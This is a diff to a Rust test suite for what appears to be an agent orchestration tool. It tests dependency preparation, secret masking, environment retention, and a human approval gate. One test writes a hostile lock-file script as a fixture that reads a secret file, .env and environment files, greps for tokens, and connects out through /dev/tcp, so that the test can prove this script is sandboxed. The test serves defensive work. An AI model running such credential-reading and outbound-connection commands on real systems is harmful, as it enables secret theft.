@@ -258,9 +258,9 @@ async fn a_preparation_that_fails_says_why_in_a_line_and_leaves_nothing() {
     let cases = [
         (
             "echo half > deps; echo 'no such package: left-pad' >&2; exit 3",
-            "exit code 3\nno such package: left-pad",
+            "tries it again\nno such package: left-pad",
         ),
-        ("read -p 'password: ' word", "exit code 1"),
+        ("read word || exit 1", "exit code 1; it has no terminal and no input"),
         ("echo 2 >> deps.lock", "it changed files of the project (deps.lock)"),
         ("kill -9 $$", "it was ended from outside"),
     ];
@@ -661,7 +661,11 @@ async fn secrets_of_registries_reach_the_preparation_alone_and_are_masked() {
          secrets: [REGISTRY_KEY]}}]\n"
     );
     let checks = format!("[{{name: deps, command: [sh, -c, {checks}]}}]");
-    let mut house = House::built(Plan { checks, more, ..Plan::default() }).await;
+    let looks = json!([{"role": "developer", "contains": "greet.sh", "do": "run", "commands": [
+        ["sh", "-c", "env | grep canary || echo no canary"]
+    ]}]);
+    let script = Some(looks.to_string());
+    let mut house = House::built(Plan { checks, more, script, ..Plan::default() }).await;
     std::fs::write(house.root().join(".env"), format!("REGISTRY_KEY={KEY}\n")).unwrap();
     house.commit_by_hand("deps.lock", "parser 1.0\n", "A dependency");
     house.start();
@@ -672,5 +676,74 @@ async fn secrets_of_registries_reach_the_preparation_alone_and_are_masked() {
     house.commit_by_hand("good", "", "Now it works");
     let (code, said, error) = house.teams(&["checks", "run"]).await;
     assert_eq!(code, 0, "{said}{error}");
+    // Nor does an agent get it.
+    let asked = house.ask(EDIT).await;
+    let request = house.becomes(&asked, RequestStatus::Committed).await;
+    let seen = told(&house, &request, "developer");
+    assert!(seen[0].contains("no canary"), "{seen:?}");
+    house.close().await;
+}
+
+#[tokio::test]
+async fn twelve_environments_are_kept_and_shown() {
+    let more = "prepare: [{name: packages, command: ['true'], files: [deps.lock], network: off}]\n";
+    let mut house = House::built(Plan { more: more.to_owned(), ..Plan::default() }).await;
+    for number in 0..14 {
+        house.commit_by_hand("deps.lock", &format!("{number}\n"), "A dependency");
+        let (code, said, error) = house.teams(&["prepare"]).await;
+        assert_eq!(code, 0, "{said}{error}");
+    }
+    let (_, said, _) = house.teams(&["status", "--json"]).await;
+    let told: serde_json::Value = serde_json::from_str(&said).unwrap();
+    assert_eq!(told["environments"].as_array().unwrap().len(), 12, "{said}");
+    house.start();
+    house.close().await;
+}
+
+/// A lock file whose code looks for what is not its own: nothing of it is run before a yes, and with one it finds nothing.
+#[tokio::test]
+async fn a_hostile_lock_file_does_nothing_without_a_person_and_harms_nothing_with_one() {
+    let more = "prepare: [{name: packages, command: [sh, deps.lock], files: [deps.lock], network: off}]\n\
+                gates: {prepare: ask}\n";
+    let check = json!("cat deps/seen; grep -q . deps/seen && exit 1; echo 1 passed");
+    let script = json!([
+        {"role": "planner", "do": "propose", "proposals": {"allowed_paths": null}},
+        {"role": "developer", "do": "run", "commands": [["cp", "hostile", "deps.lock"]]}
+    ]);
+    let mut house = House::built(Plan {
+        checks: format!("[{{name: seen, command: [sh, -c, {check}]}}]"),
+        script: Some(script.to_string()),
+        more: more.to_owned(),
+        ..Plan::default()
+    })
+    .await;
+    let (secret, mark) = (house.beside("secret"), house.beside("mark"));
+    std::fs::write(&secret, "password\n").unwrap();
+    let listening = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listening.set_nonblocking(true).unwrap();
+    let hostile = format!(
+        "mkdir -p deps; exec > deps/seen 2>/dev/null\n\
+         cat '{secret}'; cat '{root}/.teams_runtime/environments/'*/environment.json\n\
+         cat '{root}/.env'; env | grep -i token; echo pwned > '{mark}'\n\
+         bash -c 'echo hello > /dev/tcp/127.0.0.1/{port} && echo connected'\ntrue\n",
+        secret = secret.display(),
+        root = house.root().display(),
+        mark = mark.display(),
+        port = listening.local_addr().unwrap().port(),
+    );
+    house.commit_by_hand(".gitignore", "/deps/\n", "Dependencies are no part of it");
+    house.commit_by_hand("hostile", &hostile, "What somebody else wrote");
+    house.commit_by_hand("deps.lock", "mkdir -p deps; : > deps/seen\n", "A dependency");
+    house.start();
+    let asked = house.ask(EDIT).await;
+    house.reads(&asked, "May the dependencies of this change be prepared?").await;
+    let store = house.root().join(".teams_runtime/environments");
+    assert!(!store.join("apart").exists(), "nothing of it was run");
+    house.press(&house.owner, &asked, "May the dependencies", "Approve").await;
+    let request = house.becomes(&asked, RequestStatus::Committed).await;
+    let log = &request.work.evidence.as_ref().unwrap().checks[0].log_tail;
+    assert!(log.contains("1 passed"), "{log}");
+    assert!(!mark.exists() && std::fs::read_to_string(&secret).unwrap() == "password\n");
+    assert!(listening.accept().is_err(), "it has no network");
     house.close().await;
 }
